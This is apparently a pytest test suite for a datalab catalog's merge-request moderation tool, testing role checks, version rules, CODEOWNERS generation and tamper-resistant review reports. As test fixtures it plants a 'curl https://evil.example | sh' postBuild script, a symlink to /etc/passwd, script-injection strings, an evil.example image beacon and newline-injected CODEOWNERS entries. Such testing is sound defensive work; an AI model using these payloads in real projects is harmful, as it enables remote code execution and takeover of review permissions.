"""Moderation rules on real Git history, the report, and CODEOWNERS."""

from __future__ import annotations

import shutil
from dataclasses import replace

import git
import pytest

from sciapps.config import load_config
from sciapps.review.moderation import Roles, changes, check_roles, codeowners, load_roles, report
from tests.conftest import GAIA, REPO, version_of

# the versions a patch and a minor change raise the example's version to
_MAJOR, _MINOR, _PATCH = (int(part) for part in GAIA.split("."))
PATCH, MINOR = f"{_MAJOR}.{_MINOR}.{_PATCH + 1}", f"{_MAJOR}.{_MINOR + 1}.0"

ROLES = Roles(moderators=("mod",), advanced_developers=("adv",))
ACTOR = git.Actor("t", "t@example.org")


@pytest.fixture
def catalog(tmp_path):
    """A Git repository holding the example catalog, committed once (the base)."""
    for name in ("gaia-dr3-hrd", "jwst-nircam-image-explorer", "herschel-spire-photometry"):
        shutil.copytree(REPO / "datalabs" / name, tmp_path / "datalabs" / name)
    shutil.copy(REPO / "sciapps.yaml", tmp_path / "sciapps.yaml")
    repo = git.Repo.init(tmp_path)
    repo.git.add(A=True)
    repo.index.commit("base", author=ACTOR, committer=ACTOR)
    return tmp_path, replace(load_config(tmp_path / "sciapps.yaml"), path=tmp_path / "sciapps.yaml")


def edit(root, name, old, new):
    path = root / "datalabs" / name / "datalab.yaml"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def problems(config, author):
    return [p for c in changes(config, "HEAD") for p in check_roles(c, author, ROLES)]


def test_a_changed_datalab_needs_a_higher_version(catalog):
    root, config = catalog
    edit(root, "gaia-dr3-hrd", "keywords: [HR diagram", "keywords: [Hertzsprung-Russell diagram")
    assert any("version did not go up" in p for p in problems(config, "mlindqvist"))
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    assert problems(config, "mlindqvist") == []


def test_advanced_mode_only_by_advanced_developers(catalog):
    root, config = catalog
    edit(root, "jwst-nircam-image-explorer", f"version: {version_of('jwst-nircam-image-explorer')}", "version: 99.0.0")
    assert any("advanced mode" in p and "nobody" in p for p in problems(config, "nobody"))
    assert problems(config, "adv") == [] and problems(config, "mod") == []


def test_published_datalab_is_archived_never_deleted(catalog):
    root, config = catalog
    shutil.rmtree(root / "datalabs" / "gaia-dr3-hrd")
    (change,) = changes(config, "HEAD")
    assert change.kind == "deleted"
    assert "archive it instead" in check_roles(change, "mod", ROLES)[0]


def test_id_never_changes(catalog):
    root, config = catalog
    edit(root, "gaia-dr3-hrd", "id: gaia-dr3-hrd", "id: gaia-hrd")
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {MINOR}")
    assert any("ids never change" in p for p in problems(config, "mlindqvist"))


def test_only_maintainers_or_moderators_archive(catalog):
    root, config = catalog
    edit(
        root,
        "gaia-dr3-hrd",
        "status: published",
        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
    )
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    (change,) = changes(config, "HEAD")
    assert change.kind == "archived"
    assert any("neither one of its maintainers nor a moderator" in p for p in check_roles(change, "stranger", ROLES))
    assert check_roles(change, "mlindqvist", ROLES) == [] and check_roles(change, "mod", ROLES) == []


def test_report_in_words(catalog):
    root, config = catalog
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {MINOR}")
    edit(root, "gaia-dr3-hrd", "  cpu: 1\n  memory_gb: 2\n", "  cpu: 2\n  memory_gb: 4\n")
    (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "extra.ipynb").write_text(
        (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "hr_diagram.ipynb").read_text()
    )
    text, ok = report(config, "HEAD", "mlindqvist", ROLES)
    assert "## `gaia-dr3-hrd`: changed" in text
    assert "| field | target branch | merge request |" in text
    assert f"| `version` | `{GAIA}` | `{MINOR}` |" in text
    assert "| `resources.cpu` | `1` | `2` |" in text and "| `resources.memory_gb` | `2` | `4` |" in text
    assert "- `notebooks/extra.ipynb` (added): 8 cell(s) added, 0 removed, 0 changed" in text
    assert "- added: `notebooks/extra.ipynb`" in text
    assert "Validation: clean" in text and "Role checks: passed" in text
    assert "| build | not run |" in text and "## Checklist for the moderator" in text
    assert ok is False  # the stages have not run for it yet
    # the verdict comes first and says why, although validation and the roles passed
    verdict = [line for line in text.splitlines() if line.startswith("**Needs changes:**")]
    assert verdict == [
        "**Needs changes:** `gaia-dr3-hrd`: no build result: run `sciapps build gaia-dr3-hrd` in this pipeline first."
    ]
    assert text.index("**Needs changes:**") < text.index("## `gaia-dr3-hrd`") and "Ready for approval" not in text


def test_a_new_datalab_shows_what_it_says_of_itself_and_a_failed_review_says_why(catalog):
    root, config = catalog
    shutil.copytree(REPO / "datalabs" / "xmm-epic-spectrum-fit", root / "datalabs" / "xmm-epic-spectrum-fit")
    meta = root / "datalabs" / "xmm-epic-spectrum-fit" / "datalab.yaml"
    meta.write_text(meta.read_text().replace("description: |\n", "description: |\n  ```\n  <script>alert(1)</script>\n", 1))
    (root / "datalabs" / "notes.txt").write_text("a file of no datalab")
    text, ok = report(config, "HEAD", "nobody-known", ROLES)
    assert ok is False and "## `xmm-epic-spectrum-fit`: added" in text
    introduced = text.split("What it says of itself:", 1)[1].split("Files:", 1)[0]
    # the description in full, as text in a fence longer than any it holds
    assert "````text\n```\n<script>alert(1)</script>\n" in introduced
    for field in ("summary", "missions", "data_assets", "resources"):
        assert f"| `{field}` | — | `" in introduced, field
    assert "| `obsid` | — | Observation id: XMM-Newton observation id (10 digits)" in text  # every parameter, in words
    verdict = next(line for line in text.splitlines() if line.startswith("**Needs changes:**"))
    # every reason the review exits 1, in one line: a path of no datalab, and nothing was built
    assert verdict.startswith("**Needs changes:** 1 path(s) in `datalabs/` belong to no datalab; "), verdict
    assert "`xmm-epic-spectrum-fit`: no build result" in verdict


def test_codeowners_is_fresh():
    config = load_config(REPO / "sciapps.yaml")
    assert (REPO / "CODEOWNERS").read_text() == codeowners(config, load_roles(config)), "run `sciapps codeowners`"


# ---------------------------------------------------------------- a merge request cannot talk its way past
@pytest.fixture
def governed(catalog):
    """The catalog with the files that judge merge requests committed on the target branch."""
    root, config = catalog
    for name in ("roles.yaml", "CODEOWNERS", "scan-policy.yaml", ".gitlab-ci.yml"):
        shutil.copy(REPO / name, root / name)
    shutil.copytree(REPO / "schemas", root / "schemas")
    repo = git.Repo(root)
    repo.git.add(A=True)
    repo.index.commit("rules", author=ACTOR, committer=ACTOR)
    return root, config


def review(root, author):
    from click.testing import CliRunner

    from sciapps.cli import cli

    result = CliRunner().invoke(cli, ["review", "--base", "HEAD", "--author", author, "--config", str(root / "sciapps.yaml")])
    assert "Traceback" not in result.output
    return result.exit_code, result.output


def test_roles_come_from_the_target_branch_not_the_merge_request(governed):
    root, _ = governed
    roles = root / "roles.yaml"
    roles.write_text(roles.read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: [aokonkwo, mallory]"))
    edit(root, "jwst-nircam-image-explorer", f"version: {version_of('jwst-nircam-image-explorer')}", "version: 99.0.0")
    code, output = review(root, "mallory")
    assert code == 1
    assert "which only advanced developers may submit; mallory is not one" in output
    assert "- `roles.yaml` (M)" in output and "only a moderator may change these files" in output


@pytest.mark.parametrize(
    "path",
    [
        "roles.yaml",
        "CODEOWNERS",
        "sciapps.yaml",
        "scan-policy.yaml",
        ".gitlab-ci.yml",
        "schemas/datalab.schema.json",
        "tools/sciapps/new_rule.py",
        "README.md",
    ],
)
def test_a_change_outside_datalabs_is_listed_and_needs_a_moderator(governed, path):
    root, _ = governed
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text((target.read_text() if target.exists() else "") + "\n# changed by the merge request\n")
    code, output = review(root, "mallory")
    assert code == 1 and f"- `{path}` (" in output and "No datalab changes" in output
    code, output = review(root, "mlindqvist")  # a moderator
    assert code == 0 and f"- `{path}` (" in output


def test_limits_come_from_the_target_branch(governed):
    root, _ = governed
    config = root / "sciapps.yaml"
    config.write_text(config.read_text() + "\nlimits: {max_files: 100000, datalab_mb: 100000, file_mb: 100000}\n")
    folder = root / "datalabs" / "gaia-dr3-hrd"
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    (folder / "data" / "big.bin").write_bytes(b"\0" * (21 * 1024 * 1024))  # over the target's 20 MB per file
    code, output = review(root, "mlindqvist")
    assert code == 1 and "DL-033" in output


@pytest.mark.parametrize(
    "old, new, what",
    [
        ("status: published", "status: draft", "status published → draft"),
        ("visibility: public", "visibility: private", "visibility public → private"),
        ("username: mlindqvist", "username: mallory", "the maintainers change"),
    ],
)
def test_leaving_the_store_or_changing_hands_needs_a_maintainer(governed, old, new, what):
    root, config = governed
    edit(root, "gaia-dr3-hrd", old, new)
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    (change,) = changes(config, "HEAD")
    problems_of_stranger = check_roles(change, "stranger", ROLES)
    assert any(what in p and "neither one of its maintainers nor a moderator" in p for p in problems_of_stranger), (
        problems_of_stranger
    )
    assert check_roles(change, "mod", ROLES) == []
    if "status" in old or "visibility" in old:
        assert change.kind == "archived"  # hiding a published datalab is an archival


def test_unarchiving_needs_a_maintainer(governed):
    root, config = governed
    edit(
        root,
        "gaia-dr3-hrd",
        "status: published",
        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
    )
    repo = git.Repo(root)
    repo.git.add(A=True)
    repo.index.commit("archived", author=ACTOR, committer=ACTOR)
    edit(
        root,
        "gaia-dr3-hrd",
        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
        "status: published",
    )
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    (change,) = changes(config, "HEAD")
    assert any("status archived → published" in p for p in check_roles(change, "stranger", ROLES))


def test_every_path_under_datalabs_is_reviewed_whatever_its_name(governed):
    import os

    root, _ = governed
    hidden = root / "datalabs" / "_gaïa"
    hidden.mkdir()
    os.symlink("/etc/passwd", hidden / "passwd")
    unicode_name = root / "datalabs" / "gaïa-dr3"
    shutil.copytree(root / "datalabs" / "gaia-dr3-hrd", unicode_name)
    (root / "datalabs" / "README.html").write_text("<script>alert(1)</script>")
    code, output = review(root, "mlindqvist")
    assert code == 1
    assert "`datalabs/_gaïa/passwd`" in output  # no datalab.yaml: a path in no datalab
    assert "## `gaïa-dr3`: added" in output and "is not a datalab id" in output
    assert "`datalabs/README.html`" in output


def test_stage_results_of_another_version_or_committed_are_not_believed(governed):
    from sciapps.results import write_result

    root, config = governed
    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
    results = root / "build" / "results"
    for stage in ("build", "scan", "test", "chart"):
        write_result(
            results,
            "gaia-dr3-hrd",
            {
                "stage": stage,
                "status": "passed",
                "finished": "2026-11-20T10:00:00Z",
                "summary": "passed",
                "datalab_version": GAIA,
            },
        )
    code, output = review(root, "mlindqvist")
    assert code == 1 and output.count(f"a result for version {GAIA}, not {PATCH}") == 4
    for stage in ("build", "scan", "test", "chart"):  # now for the right version: believed
        write_result(
            results,
            "gaia-dr3-hrd",
            {
                "stage": stage,
                "status": "passed",
                "finished": "2026-11-20T10:00:00Z",
                "summary": "passed",
                "datalab_version": PATCH,
            },
        )
    code, output = review(root, "mlindqvist")
    assert code == 0, output
    assert (
        output.splitlines()[4]
        == ("**Ready for approval.** Every check below passed; the checklist at the end is the moderator's.")
        and "Needs changes" not in output
    )
    repo = git.Repo(root)
    repo.git.add("-f", "build/results")  # forced past .gitignore by the merge request
    code, output = review(root, "mlindqvist")
    assert code == 1 and "## Committed stage results" in output and output.count("not believed") == 4


def test_names_in_the_report_cannot_break_out_of_their_code_spans(governed):
    from sciapps.review.moderation import code

    assert code("a`b") == "``a`b``" and code("`x`") == "`` `x` ``"
    assert code("line\nnext ![x](https://evil.example/t.png)") == "`line\\u000anext ![x](https://evil.example/t.png)`"


def test_the_author_judged_is_the_one_gitlab_names(monkeypatch):
    from sciapps.errors import SciAppsError
    from sciapps.author import author_from_environment
    from tests.review.fake_gitlab import FakeGitLab, Server

    server = Server(FakeGitLab(open_merge_request=True))
    try:
        monkeypatch.setenv("CI_API_V4_URL", f"{server.url}/api/v4")
        monkeypatch.setenv("CI_PROJECT_ID", "42")
        monkeypatch.setenv("CI_MERGE_REQUEST_IID", "7")
        monkeypatch.setenv("SCIAPPS_REVIEW_TOKEN", "glpat-test")
        monkeypatch.setenv("GITLAB_USER_LOGIN", "mlindqvist")  # who ran the pipeline: not the author
        assert author_from_environment() == "aokonkwo"
        for variable, value, says in [
            ("SCIAPPS_REVIEW_TOKEN", "wrong", "refused the review token"),
            ("CI_MERGE_REQUEST_IID", "8", "no merge request !8"),
        ]:
            monkeypatch.setenv(variable, value)
            with pytest.raises(SciAppsError, match=says):
                author_from_environment()
            monkeypatch.setenv("SCIAPPS_REVIEW_TOKEN", "glpat-test")
            monkeypatch.setenv("CI_MERGE_REQUEST_IID", "7")
    finally:
        server.close()
    with pytest.raises(SciAppsError, match="cannot ask GitLab"):  # nobody answers: fail closed
        author_from_environment()
    monkeypatch.delenv("SCIAPPS_REVIEW_TOKEN")
    with pytest.raises(SciAppsError, match="SCIAPPS_REVIEW_TOKEN not set"):
        author_from_environment()


def test_the_report_names_the_exceptions_a_datalab_claims(governed):
    root, _ = governed
    edit(
        root,
        "gaia-dr3-hrd",
        f"version: {GAIA}",
        f"version: {PATCH}\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.",
    )
    (root / "datalabs" / "gaia-dr3-hrd" / "postBuild").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    _, output = review(root, "mlindqvist")
    assert "Exceptions it claims" in output and "- `DL-058`: postBuild enables an extension." in output


def test_codeowners_never_takes_a_line_from_a_datalab(catalog):
    root, config = catalog
    edit(root, "gaia-dr3-hrd", "username: mlindqvist", 'username: "mlindqvist\\n* @mallory"')
    shutil.copytree(root / "datalabs" / "jwst-nircam-image-explorer", root / "datalabs" / "evil\n* @mallory")
    text = codeowners(config, ROLES)
    assert "mallory" not in text and "/datalabs/jwst-nircam-image-explorer/" in text


def _launch_parameters(config, author: str, datalab: str) -> str:
    text, _ = report(config, "HEAD", author, ROLES)
    assert "| `parameters` |" not in text  # never as an 80-character excerpt in the field table
    return text.split(f"## `{datalab}`", 1)[1].split("Launch parameters (", 1)[1].split("Files:", 1)[0]


def test_the_launch_parameters_are_shown_old_against_new_and_in_full_when_added(catalog):
    """A hostile link's values reach the notebook through the declaration: the moderator sees
    every parameter that changes, in words, with its default and what it selects."""
    root, config = catalog
    meta = root / "datalabs" / "gaia-dr3-hrd" / "datalab.yaml"
    meta.write_text(meta.read_text().replace("    max: 100\n    default: 100\n", "    max: 1000\n    default: 100\n", 1))
    section = _launch_parameters(config, "mlindqvist", "gaia-dr3-hrd")
    assert (
        "| `max_distance_pc` | Distance limit (pc): a number from 10 to 100; default 100 "
        "| Distance limit (pc): a number from 10 to 1000; default 100 |"
    ) in section
    assert "source_id" not in section  # unchanged: not repeated
    shutil.copytree(REPO / "datalabs" / "xmm-epic-spectrum-fit", root / "datalabs" / "xmm-epic-spectrum-fit")
    section = _launch_parameters(config, "jruiz", "xmm-epic-spectrum-fit")
    assert (
        "| `obsid` | — | Observation id: XMM-Newton observation id (10 digits); default 0123456789; "
        "selects xmm-newton/xmm_pps/obsid |"
    ) in section
    assert "| `max_energy_kev` | — | Upper energy (keV): a number from 2 to 12; default 10 |" in section
